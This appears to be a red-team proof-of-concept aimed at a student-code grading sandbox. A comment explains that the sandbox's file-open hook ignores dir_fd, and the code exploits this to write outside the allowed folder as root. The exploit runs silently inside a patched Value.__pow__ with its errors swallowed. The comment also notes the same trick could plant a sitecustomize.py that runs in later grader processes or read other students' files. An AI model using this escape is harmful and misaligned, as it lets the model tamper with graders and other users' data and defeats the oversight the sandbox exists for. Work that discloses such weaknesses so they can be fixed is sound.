# WEAKNESS (grader/wall/worker.py, install_guards, the "open" event): the hook resolves a
# relative path against the current directory and ignores dir_fd. With a directory descriptor
# of a folder it may read (the standard library's, a read root) and the working directory moved
# deep into its own folder, os.open(relpath, O_CREAT|O_WRONLY, dir_fd=fd) is checked as a path
# inside its folder but lands anywhere the worker's user may write. The worker runs as root
# here: /tmp (another grading's progress stream, the CI's files), the interpreter's own
# lib/python3.11 (a sitecustomize.py there runs in every later trusted grader process), ...
# The same trick reads any file (another student's scratch copy, a clone of the kit).
# This one only leaves /tmp/labkit-redteam-dirfd behind. Inside one operation; failures swallowed.
import numpy as _np

_os = _np.lib._utils_impl.os
_sys = _np._core.numeric.sys


def _write_outside():
    stdlib = next(p for p in _sys.path if _os.path.isfile(_os.path.join(p, "os.py")))
    fd = _os.open(stdlib, _os.O_RDONLY)  # a read root: allowed
    deep = "/".join(["d"] * (stdlib.count("/") + 2))
    _os.makedirs(deep, exist_ok=True)  # inside its own folder
    home = _os.getcwd()
    _os.chdir(deep)
    try:
        up = "../" * stdlib.count("/")  # from the stdlib folder: up to /; from here: still inside
        out = _os.open(up + "tmp/labkit-redteam-dirfd", _os.O_WRONLY | _os.O_CREAT, 0o644, dir_fd=fd)
        _os.write(out, b"written through dir_fd\n")
        _os.close(out)
    finally:
        _os.chdir(home)


_honest_pow = Value.__pow__


def _escaping_pow(self, k):
    if isinstance(k, Value):
        try:
            _write_outside()
        except BaseException:
            pass
    return _honest_pow(self, k)


Value.__pow__ = _escaping_pow
